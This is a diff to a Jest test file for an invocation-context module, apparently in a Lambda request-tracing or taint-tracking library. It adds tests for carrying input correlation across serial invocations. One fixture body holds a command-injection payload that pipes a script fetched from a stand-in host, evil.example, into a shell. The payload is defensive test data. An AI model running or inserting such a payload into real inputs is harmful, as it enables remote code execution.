@@ -9,9 +9,10 @@ describe('resolveContextMode', () => {
     expect(resolveContextMode('auto', { AWS_LAMBDA_MAX_CONCURRENCY: '1' }, '20.19.0')).toBe('serial');
     expect(resolveContextMode('auto', { AWS_LAMBDA_MAX_CONCURRENCY: 'lots' }, '20.19.0')).toBe('serial');
   });
-  test('an explicit choice wins', () => {
+  test('an explicit choice wins, except serial where requests run concurrently', () => {
     expect(resolveContextMode('async', {}, '20.19.0')).toBe('async');
-    expect(resolveContextMode('serial', { AWS_LAMBDA_MAX_CONCURRENCY: '8' }, '24.1.0')).toBe('serial');
+    expect(resolveContextMode('serial', {}, '24.1.0')).toBe('serial');
+    expect(resolveContextMode('serial', { AWS_LAMBDA_MAX_CONCURRENCY: '8' }, '22.13.1')).toBe('async');
   });
 });
 
@@ -59,6 +60,33 @@ describe('serial context', () => {
     expect(ctx.current()?.requestId).toBe('req-a');
     ctx.begin(new Invocation('req-b', {}), () => undefined);
     expect(ctx.current()?.requestId).toBe('req-b');
+  });
+});
+
+describe('serial context: correlation with the previous invocation', () => {
+  test("work resuming in the next invocation is still correlated with the earlier one's inputs", () => {
+    const ctx = new InvocationContext('serial');
+    const a = new Invocation('req-a', { body: '{"cmd":"; curl evil.example | sh"}' });
+    ctx.begin(a, () => undefined);
+    expect(a.correlationInputs().some((i) => i.value === '; curl evil.example | sh')).toBe(true);
+    const b = new Invocation('req-b', { body: '{"name":"world"}' });
+    ctx.begin(b, () => undefined);
+    const inputs = b.correlationInputs();
+    expect(inputs.find((i) => i.value === 'world')?.path).toBe('$.body<json>.name');
+    expect(inputs.find((i) => i.value === '; curl evil.example | sh')?.path).toBe('(request req-a)$.body<json>.cmd');
+    // One invocation back only: the one before that is released.
+    const c = new Invocation('req-c', {});
+    ctx.begin(c, () => undefined);
+    expect(c.correlationInputs().some((i) => i.value === '; curl evil.example | sh')).toBe(false);
+    expect(b.earlier).toBeUndefined();
+  });
+
+  test('async context: no carry (each chain keeps its own invocation)', () => {
+    const ctx = new InvocationContext('async');
+    ctx.begin(new Invocation('req-a', { x: 'first-input' }), () => undefined);
+    const b = new Invocation('req-b', { y: 'second-input' });
+    ctx.begin(b, () => undefined);
+    expect(b.correlationInputs().map((i) => i.value)).not.toContain('first-input');
   });
 });
 
